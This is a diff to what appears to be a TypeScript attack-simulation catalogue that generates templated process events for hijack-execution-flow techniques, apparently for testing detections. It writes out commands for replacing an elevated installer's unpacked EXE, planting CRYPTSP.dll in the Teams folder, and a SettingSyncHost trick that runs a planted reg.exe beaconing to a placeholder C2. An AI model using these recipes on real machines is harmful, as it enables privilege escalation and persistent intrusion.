@@ -160,12 +160,26 @@ export const persistence3 = [
     ],
   ),
   t("T1574.005", "Installer file permissions weakness", "A writable installer directory's EXE replaced.", [
-    v("replace", [
-      {
-        cmd: "cmd.exe /c copy /y {{tmp}}\\{{rand}}.exe {{tmp}}\\{{rand2}}\\setup.exe",
-        files: ["{{tmp}}\\{{rand2}}\\setup.exe"],
-      },
-    ]),
+    // An elevated installer unpacks into the user's %TEMP% and then runs what it unpacked; the user-level
+    // implant swaps the file in between, so the payload starts with the installer's High integrity.
+    v(
+      "replace",
+      [
+        {
+          cmd: '"{{downloads}}\\{{$app}}Setup.exe" /S',
+          parent: "@explorer",
+          elevated: true,
+          as: "inst",
+          files: ["{{tmp}}\\{{rand2}}\\setup.exe"],
+        },
+        {
+          cmd: "cmd.exe /c copy /y {{tmp}}\\{{rand}}.exe {{tmp}}\\{{rand2}}\\setup.exe",
+          files: ["{{tmp}}\\{{rand2}}\\setup.exe"],
+        },
+        { cmd: '"{{tmp}}\\{{rand2}}\\setup.exe" /install /quiet', parent: "inst", elevated: true },
+      ],
+      { vars: { app: "{{Zoom|Webex|VLC|7-Zip}}" } },
+    ),
   ]),
   t("T1574.007", "PATH interception", "A binary planted in an early PATH directory.", [
     v("path-plant", [
@@ -176,14 +190,48 @@ export const persistence3 = [
     ]),
     v("setx-path", ['setx PATH "{{appdata}}\\bin;%PATH%"']),
   ]),
-  t("T1574.008", "Search order hijacking", "A DLL planted in an application directory searched first.", [
-    v("app-dir", [
-      {
-        cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.dll "{{local}}\\Microsoft\\Teams\\current\\CRYPTSP.dll"',
-        files: ["{{local}}\\Microsoft\\Teams\\current\\CRYPTSP.dll"],
-      },
-    ]),
-  ]),
+  t(
+    "T1574.008",
+    "Search order hijacking",
+    "A DLL planted in an application directory searched first, or an EXE found first in the working directory.",
+    [
+      v("app-dir", [
+        {
+          cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.dll "{{local}}\\Microsoft\\Teams\\current\\CRYPTSP.dll"',
+          files: ["{{local}}\\Microsoft\\Teams\\current\\CRYPTSP.dll"],
+        },
+      ]),
+      // Hexacorn's SettingSyncHost trick: its diagnostics mode runs "cmd.exe /c RoamDiag.cmd" in the current
+      // directory, and the script's bare "reg" resolves to a reg.exe planted there before System32.
+      v(
+        "settingsynchost-reg",
+        [
+          {
+            cmd: "cmd.exe /c copy /y {{downloads}}\\{{rand}}.exe {{local}}\\{{$dir}}\\reg.exe",
+            files: ["{{local}}\\{{$dir}}\\reg.exe"],
+          },
+          {
+            cmd: "C:\\Windows\\System32\\SettingSyncHost.exe -LoadAndRunDiagScriptNoCab {{rand2}}",
+            as: "ssh",
+            cwd: "{{local}}\\{{$dir}}",
+          },
+          {
+            cmd: 'C:\\Windows\\system32\\cmd.exe /c RoamDiag.cmd -outputpath "{{local}}\\{{$dir}}\\out"',
+            parent: "ssh",
+            as: "roam",
+            cwd: "{{local}}\\{{$dir}}",
+          },
+          {
+            cmd: 'reg  export HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\SettingSync "{{local}}\\{{$dir}}\\out\\SettingSync.reg"',
+            image: "{{local}}\\{{$dir}}\\reg.exe",
+            parent: "roam",
+            net: [["{{c2}}", 443]],
+          },
+        ],
+        { vars: { dir: "{{SyncDiag|Packages\\Diag|Programs\\Sync}}" } },
+      ),
+    ],
+  ),
   t("T1574.009", "Unquoted path", "C:\\Program.exe planted for an unquoted service path.", [
     v(
       "program-exe",
